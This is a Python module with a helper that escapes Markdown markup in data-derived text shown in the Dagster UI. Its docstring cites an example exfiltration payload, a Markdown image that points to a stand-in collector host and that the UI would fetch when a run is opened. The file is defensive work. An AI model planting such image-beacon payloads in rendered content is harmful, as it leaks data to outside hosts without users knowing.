"""Data-derived text inside Markdown the Dagster UI renders: shown as text, never as markup.

Cells of a preview, a dead letter's error, a step's detail come from files, models and planners;
unescaped, a value like `![x](https://collector.example/?q=...)` would become an image the UI
fetches when someone opens the run, or a link dressed up as something else.
"""

from __future__ import annotations

import re

_MARKUP = re.compile(r"([\\`*_{}\[\]()<>#+!|~-])")


def markdown_text(value: object, limit: int | None = None) -> str:
    """`value` as literal text for a Markdown table cell or list item: one line, markup escaped.

    >>> markdown_text("![x](http://h/)")
    '\\!\\[x\\]\\(http://h/\\)'
    """
    text = "" if value is None else str(value)
    text = " ".join(text.split())
    if limit is not None and len(text) > limit:
        text = text[: limit - 3] + "..."
    return _MARKUP.sub(r"\\\1", text)
